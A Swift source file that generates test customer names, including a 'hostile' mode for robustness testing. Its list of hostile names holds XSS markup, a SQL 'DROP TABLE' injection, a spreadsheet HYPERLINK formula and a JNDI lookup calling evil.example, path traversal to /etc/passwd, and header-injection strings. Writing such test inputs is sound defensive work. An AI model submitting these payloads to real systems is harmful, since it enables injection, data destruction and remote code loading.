/// What the generated customers are called.
public enum WorldNames: String, Sendable, Codable, CaseIterable {
    /// English companies, hardly two alike.
    case plain
    /// Every fourth in another script, and every tenth a twin: the name of the one before.
    case mixed
    /// Mixed, and every seventh a name that hurts careless programs: markup, formulas, text direction, 10 kB.
    case hostile

    /// `before` gives the name of an earlier place.
    func name(at index: Int, otherwise plain: String, before: (Int) -> String) -> (text: String, country: Country?) {
        switch self {
        case .plain: (plain, nil)
        case .hostile where index % 7 == 6: (Self.hostileNames[index / 7 % Self.hostileNames.count], nil)
        case .mixed, .hostile:
            if index % 10 == 9 {
                (before(index - 1), nil)
            } else if index % 4 == 3 {
                Self.script(index / 4)
            } else {
                (plain, nil)
            }
        }
    }

    private static func script(_ index: Int) -> (text: String, country: Country?) {
        let (name, country) = otherScripts[index % otherScripts.count]
        return ("\(name) \(index + 1)", country)
    }

    private static let otherScripts: [(String, Country)] = [
        ("青葉商店", .JP), ("Φούρνος Ελιά", .GR), ("مخبز الواحة", .AE), ("ספריית הגשר", .IL), ("한빛 상사", .KR),
        ("Żółw i Łoś Sp. z o.o.", .PL), ("Straßenbäckerei Größ", .DE), ("Crème Brûlée Île-d’Œuvre", .FR),
        ("नीलकमल स्टोर्स", .GB), ("ร้านดอกบัว", .GB), ("Ћилим радионица", .GB), ("🏳️‍🌈 Café Zoë", .IE),
    ]

    private static let hostileNames = [
        "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\"><b>bold</b>", "</title><h1>Owned</h1>",
        "=HYPERLINK(\"http://evil.example\",\"click\")", "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1",
        "Robert'); DROP TABLE tenant;--", "%s%n%x {{7*7}} ${jndi:ldap://evil.example} #{1}", "../../../etc/passwd",
        "abc\u{202E}exe.gnp", "\u{2066}left\u{2069}\u{200B}\u{FEFF}zero", "line one\nline two\r\nSet-Cookie: a=b",
        "nul\u{0000}byte\u{0007}bell", "NULL", "undefined", " ", "\u{1D54F}\u{0301}\u{0302}\u{0303}\u{0304} Zalgo",
        String(repeating: "A very long name. ", count: 569), String(repeating: "W", count: 300),
    ]
}
